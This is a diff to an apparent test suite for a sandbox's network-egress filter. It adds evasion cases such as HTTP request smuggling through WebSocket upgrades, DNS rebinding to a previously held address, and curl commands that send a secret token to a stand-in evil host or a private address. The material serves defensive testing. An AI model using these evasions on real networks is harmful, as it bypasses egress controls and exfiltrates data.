@@ -7,7 +7,7 @@ import time
 
 from names import CDN, EVIL, EVIL_6, FOREIGN_RESOLVER, GOOD, METADATA, PRIVATE
 from sandbox import Sandbox
-from table import CURL, INSIDE, TRUST, Failed, allow, block, deny, open_to_all, shortened
+from table import CURL, IMPATIENT, INSIDE, TRUST, Failed, allow, block, deny, open_to_all, shortened
 
 # On one address live a name that is allowed and one that is not.
 FINE, FOUL = "fine.cdn.test", "foul.cdn.test"
@@ -40,7 +40,7 @@ def try_all(tables, evasion):
         token = f"t{secrets.token_hex(8)}"
         mark = tables.world.mark()
         with Sandbox(policy) as box:
-            code, said = box.run(evasion.script, {"TOKEN": token, **TRUST})
+            code, said = box.run(evasion.script, {"TOKEN": token, **TRUST, **({} if policy is None else IMPATIENT)})
         time.sleep(GRACE_S)
         wanted = re.compile(evasion.reached.replace("TOKEN", token), re.S | re.I)
         return code, said, [line for line in tables.world.since(mark) if wanted.search(line)]
@@ -126,6 +126,8 @@ def requests():
     yield Evasion("a length with a sign", ALLOWED, raw(f"{head}Content-Length: +0\\r\\n\\r\\n{smuggled}"), foul)
     yield Evasion("CONNECT", ALLOWED, raw(f"CONNECT {FOUL}:80 HTTP/1.1\\r\\nHost: {FINE}\\r\\n\\r\\n|{smuggled}", "parts"), f"^cdn: (CONNECT |.*TOKEN.*{FOUL})")
     yield Evasion("an upgrade that the server does not take", ALLOWED, raw(get(FINE, "Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n", "/first") + "|" + smuggled, "parts"), foul)
+    taken = get(FINE, "Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n", "/first")
+    yield Evasion("an upgrade that the server takes", ALLOWED, raw(f"{taken}|{smuggled}", "parts", port=8081), foul, control=False)
     yield Evasion("empty lines before a request", ALLOWED, raw("\\r\\n\\r\\n" + get(FOUL)), foul, control=False)
     yield Evasion("an empty line before a request", ALLOWED, raw("\\n" + get(FOUL)), foul)
     yield Evasion("a method that nobody knows", ALLOWED, raw(f"SEIZE /$TOKEN HTTP/1.1\\r\\nHost: {FOUL}\\r\\n\\r\\n"), foul)
@@ -165,6 +167,8 @@ def resolution():
                       ("half.test", "a name of a private address, among others"), ("mapped.test", "a name of a private address in IPv6"), ("nat64.test", "a name of a private address by NAT64")]:  # fmt: skip
         yield Evasion(why, block(allow(name)), f"{CURL} http://{name}/$TOKEN; {CURL} -4 http://{name}/$TOKEN; {CURL} -6 http://{name}/$TOKEN", "^(private|metadata): ", control=False)
     yield Evasion("a name that moves to a private address", block(allow("rebind.test")), f"for n in 1 2 3; do {CURL} http://rebind.test/$TOKEN; done; {CURL} --resolve rebind.test:80:{PRIVATE} http://rebind.test/$TOKEN", "^private: ", control=False)
+    moved = f"dig +short moving.test; dig +short moving.test; sleep 6; {INSIDE} greet {GOOD} 7000"
+    yield Evasion("an address that a name had before", block(allow("moving.test")), moved, "^good: told b'TOKEN", control=False)
     yield Evasion("a name of which one knows better", block(allow("good.test")), f"{CURL} --resolve good.test:80:{EVIL} http://good.test/$TOKEN", "^evil: ")
     yield Evasion("another name server by UDP", ALLOWED, f"{INSIDE} question {FOREIGN_RESOLVER} evil.test", "^foreign resolver: ")
     yield Evasion("another name server by TCP", ALLOWED, f"{INSIDE} question {FOREIGN_RESOLVER} evil.test tcp", "^foreign resolver: ")
